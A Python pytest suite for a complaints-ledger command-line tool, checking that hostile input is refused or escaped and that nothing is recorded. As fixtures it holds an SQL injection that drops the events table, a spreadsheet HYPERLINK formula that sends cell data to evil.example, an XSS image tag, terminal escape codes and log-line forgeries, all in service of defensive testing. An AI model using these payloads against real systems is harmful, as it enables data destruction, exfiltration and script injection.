"""Hostile input, as an attacker would type it: every recording command on both engines
answers with one line on stderr and exit 1 or 2, never a traceback, and records nothing.

The specific holes first (each was open before ADR 0025), then a fixed corpus run
through every recording command: the commands come from the command tree and their
command lines from their ``--help`` examples, so a command added later is covered too.
"""

from __future__ import annotations

import shlex
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner

from cli.main import cli
from ledger.application import Ledger
from tests.cli.conftest import Complaints
from tests.cli.test_help import walk
from tests.cli.test_help_examples import examples

RECEIVED = "2025-04-07"
NOT_UTF8 = "\udcff\udcfe"  # what Python makes of the bytes 0xFF 0xFE on a command line
FORGED = "complex\nError: forged line"
ONE_MB = "x" * 1_000_000


def one_line_error(result: Any) -> str:
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    assert "Traceback" not in result.output
    return str(lines[0])


def events(db: str) -> int:
    app = Ledger(db)
    try:
        return int(app.last_position_now())
    finally:
        app.close()


@pytest.fixture
def case(complaints: Complaints) -> str:
    return complaints.ok("receive", "--on", RECEIVED, "--procedure", "statutory")


# ----------------------------------------------------------- text that is not text
def test_a_team_name_that_is_not_utf8_is_refused(complaints: Complaints) -> None:
    refused = complaints.refused("receive", "--on", RECEIVED, "--team", NOT_UTF8)
    assert "--team: '\\xff\\xfe' is not UTF-8 text [bad-data]" in refused.stderr
    assert events(complaints.db) == 0


def test_bytes_that_are_not_utf8_on_the_real_command_line_are_refused(
    complaints: Complaints, tmp_path: Path
) -> None:
    import os
    import subprocess
    import sys

    program = str(Path(sys.executable).with_name("complaints"))
    env = {**os.environ, "COMPLAINTS_DB": complaints.db, "COMPLAINTS_ACTOR": "tester"}
    done = subprocess.run(
        [program, "receive", "--on", RECEIVED, "--team", b"\xff\xfe"],
        capture_output=True,
        env=env,
        cwd=tmp_path,
        check=False,
    )
    assert done.returncode == 1
    assert done.stderr.decode().splitlines() == [
        "Error: --team: '\\xff\\xfe' is not UTF-8 text [bad-data]"
    ]


def test_a_batch_file_with_a_byte_that_is_not_utf8_stops_at_its_line(
    complaints: Complaints, tmp_path: Path
) -> None:
    source = tmp_path / "lines.txt"
    source.write_bytes(
        b"receive --on 2025-04-07 --procedure statutory\nreceive --on 2025-04-07 --team \xff\n"
    )
    result = complaints("batch", str(source))
    assert result.exit_code == 1
    assert one_line_error(result) == ("Error: line 2: --team: '\\xff' is not UTF-8 text [bad-data]")
    assert result.stdout.split() == ["CSC-2025-0001"]


@pytest.mark.parametrize(
    "args",
    [
        ("recommend", "{case}", "--on", "2025-04-08", "--text", "before\x00after"),
        ("extend", "{case}", "--on", "2025-04-08", "--reason", "\x00"),
        ("receive", "--on", RECEIVED, "--summary", "nul \x00 inside"),
    ],
    ids=["recommendation text", "extension reason", "summary"],
)
def test_nul_in_any_text_is_refused_on_both_engines(
    complaints: Complaints, case: str, args: tuple[str, ...]
) -> None:
    before = events(complaints.db)
    refused = complaints.refused(*(a.replace("{case}", case) for a in args))
    assert "contains a NUL character [bad-data]" in refused.stderr
    assert events(complaints.db) == before


def test_nul_in_a_batch_line_is_refused_on_both_engines(
    complaints: Complaints, case: str, tmp_path: Path
) -> None:
    before = events(complaints.db)
    source = tmp_path / "lines.txt"
    source.write_bytes(f"recommend {case} --on 2025-04-08 --text 'a\x00b'\n".encode())
    result = complaints("batch", str(source))
    assert result.exit_code == 1
    assert "line 1: --text: 'a\\x00b' contains a NUL character" in one_line_error(result)
    assert events(complaints.db) == before


# ------------------------------------------------------------------ names
@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--team", "Locality North\nError: forged"),
        ("--service-area", "Early\tHelp"),
        ("--ref", "CSC-2025-0009\n"),
        ("--complainant", "A. Parent\x1b[31m"),
    ],
)
def test_a_control_character_in_a_name_is_refused(
    complaints: Complaints, option: str, value: str
) -> None:
    refused = complaints.refused("receive", "--on", RECEIVED, option, value)
    assert f"{option}: '" in refused.stderr and "contains a control character" in refused.stderr
    assert events(complaints.db) == 0


def test_a_control_character_in_the_actor_is_refused(complaints: Complaints, case: str) -> None:
    before = events(complaints.db)
    clerk = Complaints(complaints.db, actor="clerk\nError: forged")
    result = clerk("acknowledge", case, "--on", "2025-04-08")
    assert result.exit_code == 1
    assert "--actor: 'clerk\\nError: forged' contains a control character" in one_line_error(result)
    assert events(complaints.db) == before


def test_a_control_character_in_a_recommendation_id_is_refused(
    complaints: Complaints, case: str
) -> None:
    before = events(complaints.db)
    refused = complaints.refused(
        "recommend", case, "--on", "2025-04-08", "--text", "Call back", "--id", "R1\nError: x"
    )
    assert "--id: 'R1\\nError: x' contains a control character" in refused.stderr
    assert events(complaints.db) == before


def test_a_newline_in_free_text_is_printed_escaped_and_forges_no_line(
    complaints: Complaints,
) -> None:
    ref = complaints.ok(
        "receive", "--on", RECEIVED, "--procedure", "statutory", "--summary", FORGED
    )
    complaints.ok("extend", ref, "--on", "2025-04-10", "--reason", FORGED)
    for args in (("show", ref), ("history", ref, "--personal")):
        printed = complaints.ok(*args)
        assert not any(line.startswith("Error:") for line in printed.splitlines()), printed
        assert "complex\\nError: forged line" in printed
    # JSON keeps the text exactly as recorded (opened from its sealed note)
    extended = complaints.json("history", ref, "--personal")[-1]
    assert extended["data"]["reason"] == FORGED


def test_a_megabyte_of_text_is_refused_in_one_short_line(complaints: Complaints, case: str) -> None:
    before = events(complaints.db)
    refused = complaints.refused("recommend", case, "--on", "2025-04-08", "--text", ONE_MB)
    assert "at most 20,000 can be recorded" in refused.stderr
    assert len(refused.stderr) < 1200
    assert events(complaints.db) == before


# ------------------------------------------------------------------- values
@pytest.mark.parametrize("day", ["0001-01-01", "1989-12-31", "31/12/1066"])
def test_a_date_before_1990_is_refused(complaints: Complaints, day: str) -> None:
    refused = complaints.refused("receive", "--on", day)
    assert "is before 1990" in refused.stderr
    assert events(complaints.db) == 0


def test_an_empty_recommendation_text_is_refused(complaints: Complaints, case: str) -> None:
    before = events(complaints.db)
    refused = complaints.refused("recommend", case, "--on", "2025-04-08", "--text", "  ")
    assert "--text: must not be blank [bad-data]" in refused.stderr
    assert events(complaints.db) == before


def test_an_advocacy_referral_for_an_unknown_complaint_is_refused(
    complaints: Complaints, case: str
) -> None:
    before = events(complaints.db)
    refused = complaints.refused(
        "advocacy", "--on", "2025-05-06", "--age-band", "12-15", "--complaint", "NOPE"
    )
    assert "--complaint: no complaint with reference 'NOPE' [unknown-case]" in refused.stderr
    assert events(complaints.db) == before
    referral = complaints.ok("advocacy", "--on", "2025-05-06", "--complaint", case)
    assert referral == "ADV-2025-0001"


def test_linking_an_advocacy_referral_to_an_unknown_complaint_is_refused(
    complaints: Complaints, case: str
) -> None:
    referral = complaints.ok("advocacy", "--on", "2025-05-06", "--age-band", "12-15")
    before = complaints.history(referral)
    refused = complaints.refused(
        "advocacy", "link", referral, "--on", "2025-05-07", "--complaint", "ZZZ-9"
    )
    assert "no complaint with reference 'ZZZ-9' [unknown-case]" in refused.stderr
    assert complaints.history(referral) == before
    complaints.ok("advocacy", "link", referral, "--on", "2025-05-07", "--complaint", case)


# ---------------------------------------------------------------- the corpus
#: Commands that record nothing (or are not run here): reads, and those with tests of
#: their own (``batch`` below; ``import`` and ``export`` in tests/transfer/test_import.py and
#: tests/transfer/test_export.py; ``demo`` builds a ledger of its own; ``roles`` are users).
NOT_RECORDING = {
    "show",
    "history",
    "list",
    "report",
    "verify",
    "teams",
    "service-areas",
    "projections",
    "demo",
    "batch",
    "import",
    "export",
    "roles",
    "access-log",  # reads the access log: a filter that matches nothing is an answer
    "providers",
}

PREPARED = [
    "receive --ref CSC-2025-0001 --on 2025-04-07 --procedure statutory",
    "receive --ref CSC-2025-0042 --on 2025-05-10 --procedure statutory",
    "compliment --on 2025-05-02 --team Fostering --text 'Thank you'",
    "enquiry --on 2025-05-06 --from councillor --team 'Front Door'",
    "feedback --on 2025-05-06 --team 'Front Door'",
    "advocacy --on 2025-05-06 --age-band 12-15 --theme placement",
    "recommend CSC-2025-0001 --on 2025-05-12 --text 'Call back'",
]

SQL = "'; DROP TABLE ledger_events; --"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
#: Values refused wherever they are typed.
EVERYWHERE = [NOT_UTF8, "a\x00b"]
#: Values refused as a reference, a name, a date or an amount.
AS_A_REFERENCE = [SQL, FORMULA, FORGED, ONE_MB, "", "\u2028"]
AS_A_NAME = [FORGED, "Locality\x1b[2JNorth", "North\u2029"]
AS_A_DATE = ["0001-01-01", "1989-12-31", "9999-12-31", "2999-01-01", FORMULA, SQL, ""]
AS_A_NUMBER = ["0", "-1", "1e309", "99999999999999999999999", FORMULA, SQL]
AS_FREE_TEXT = [ONE_MB]


def recording_commands() -> Iterator[tuple[tuple[str, ...], click.Command]]:
    for path in walk(cli):
        if not path or path[0] in NOT_RECORDING:
            continue
        command = _command(path)
        if isinstance(command, click.Group) and not command.invoke_without_command:
            continue
        yield path, command


def _command(path: tuple[str, ...]) -> click.Command:
    command: click.Command = cli
    for word in path:
        assert isinstance(command, click.Group)
        found = command.get_command(click.Context(command), word)
        assert found is not None
        command = found
    return command


NAME_OPTIONS = {
    "--team",
    "--service-area",
    "--person",
    "--owner",
    "--id",
    "--ref",
    "--complaint",
    "--provider",
}
CHOICE_TYPES = ("FixedName", "TaxonomyName", "NameChoice", "Choice")


def hostile_lines(path: tuple[str, ...], command: click.Command) -> Iterator[list[str]]:
    """The command's example lines, each with one value made hostile, or one option
    given twice, or a hostile actor."""
    options = {opt: p for p in command.params if isinstance(p, click.Option) for opt in p.opts}
    for line in examples(path):
        words = shlex.split(line)[1 + len(path) :]
        if isinstance(command, click.Group) and words and words[0] in command.commands:
            continue  # a subcommand's example: run with the subcommand's
        args = [*path, *words]
        yield ["--actor", "clerk\nError: forged", *args]
        for at, word in enumerate(words):
            before = words[at - 1] if at else ""
            option = options.get(before)
            if word.startswith("--") and word in options and not options[word].is_flag:
                param = options[word]
                if not param.multiple and at + 1 < len(words):
                    yield [*path, *words[: at + 2], word, words[at + 1], *words[at + 2 :]]
                continue
            if word.startswith("--"):
                continue
            if option is None:
                hostile = AS_A_REFERENCE  # a positional argument: REF, RECOMMENDATION_ID
            elif type(option.type).__name__ in ("IsoDate", "IsoDateTime"):
                hostile = AS_A_DATE
            elif type(option.type).__name__ in ("Count", "Pounds", "IntParamType"):
                hostile = AS_A_NUMBER
            elif type(option.type).__name__ in CHOICE_TYPES:
                hostile = [SQL, FORMULA]
            elif before in NAME_OPTIONS:
                hostile = AS_A_NAME
            else:
                hostile = AS_FREE_TEXT
            for value in [*EVERYWHERE, *hostile]:
                yield [*path, *words[:at], value, *words[at + 1 :]]


def test_every_recording_command_is_in_the_corpus() -> None:
    covered = {path for path, _ in recording_commands()}
    assert {("receive",), ("respond",), ("recommendation", "accept"), ("advocacy", "link")} <= (
        covered
    )
    assert len(covered) >= 30, sorted(covered)


def test_hostile_input_to_every_recording_command_records_nothing_and_says_one_line(
    db_url: str,
) -> None:
    runner = CliRunner()
    shared: dict[str, Any] = {}

    def run(args: list[str]) -> Any:
        return runner.invoke(
            cli, ["--db", db_url, "--actor", "tester", *args], obj=shared, catch_exceptions=True
        )

    for line in PREPARED:
        prepared = run(shlex.split(line))
        assert prepared.exit_code == 0, (line, prepared.output)
    app = Ledger(db_url)
    count = app.last_position_now()
    failures: list[str] = []
    tried = 0
    for path, command in recording_commands():
        for args in hostile_lines(path, command):
            tried += 1
            result = run(args)
            shown = " ".join(a if len(a) < 60 else a[:20] + "..." for a in args)
            lines = result.stderr.splitlines()
            problem = None
            if result.exception is not None and not isinstance(result.exception, SystemExit):
                problem = f"raised {type(result.exception).__name__}: {result.exception}"
            elif result.exit_code not in (1, 2):
                problem = f"exit {result.exit_code}"
            elif len(lines) != 1 or not lines[0].startswith("Error: "):
                problem = f"stderr {result.stderr[:300]!r}"
            elif "Traceback" in result.output:
                problem = "traceback"
            else:
                now = app.last_position_now()
                if now != count:
                    problem = f"{now - count} events recorded"
                    count = now
            if problem is not None:
                failures.append(f"{shown!r}: {problem}")
    app.close()
    assert tried > 500
    assert not failures, f"{len(failures)} of {tried}:\n" + "\n".join(failures[:40])


# ------------------------------------------------- digits of other scripts (ADR 0044)
# Arabic-Indic and full-width digits, written as escapes so the source shows them.
@pytest.mark.parametrize(
    "amount", ["\u0661\u0662", "\uff11\uff12", "12.\u0665\u0660", "£\u0661,\u0662\u0663\u0664"]
)
def test_an_amount_in_digits_other_than_0_to_9_is_refused(
    complaints: Complaints, case: str, amount: str
) -> None:
    before = events(complaints.db)
    result = complaints(
        "cost", case, "--on", RECEIVED, "--kind", "advocacy", "--amount", amount
    )
    assert result.exit_code == 1
    assert "is not an amount" in one_line_error(result)
    assert events(complaints.db) == before


# ----------------------------------------- names longer than the read models hold (ADR 0044)
def test_the_longest_name_is_what_the_read_models_hold() -> None:
    from domain.vocabulary import MAX_NAME
    from projections.tables import NAME

    assert NAME.length == MAX_NAME


def test_a_name_of_the_longest_length_is_recorded_on_both_engines(
    complaints: Complaints, case: str
) -> None:
    complaints.ok("provider", case, "--on", RECEIVED, "--provider", "p" * 200)
    assert complaints.json("providers")[0]["provider"] == "p" * 200


@pytest.mark.parametrize(
    "command",
    [
        ("provider", "{case}", "--on", RECEIVED, "--provider", "{long}"),
        ("amend", "{case}", "--field", "team", "--value", "{long}", "--reason", "typo"),
        ("receive", "--on", RECEIVED, "--procedure", "statutory", "--team", "{long}"),
    ],
    ids=["provider", "amend-team", "receive-team"],
)
def test_a_name_longer_than_the_read_models_hold_is_refused_alike_on_both_engines(
    complaints: Complaints, case: str, command: tuple[str, ...]
) -> None:
    before = events(complaints.db)
    args = [part.format(case=case, long="n" * 201) for part in command]
    result = complaints(*args)
    assert result.exit_code == 1
    assert "at most 200" in one_line_error(result)
    assert events(complaints.db) == before


def test_a_control_character_in_an_amended_team_is_refused(
    complaints: Complaints, case: str
) -> None:
    before = events(complaints.db)
    result = complaints(
        "amend", case, "--field", "team", "--value", "Locality\x07North", "--reason", "typo"
    )
    assert result.exit_code == 1
    assert "control character (U+0007)" in one_line_error(result)
    assert events(complaints.db) == before


# ----------------------------------------- names in the Markdown report (ADR 0044)
def test_a_name_with_a_pipe_or_a_tag_stays_one_cell_of_the_markdown_report(
    complaints: Complaints,
) -> None:
    complaints.ok(
        "receive", "--on", RECEIVED, "--procedure", "statutory",
        "--team", "<img src=x onerror=alert(1)>|North",
    )  # fmt: skip
    report = complaints.ok("report", "annual", "--year", "2025/26", "--format", "md")
    row = next(line for line in report.splitlines() if "onerror" in line)
    assert "<img" not in row
    assert row.startswith("| &lt;img src=x onerror=alert(1)>\\|North | 1 |"), row
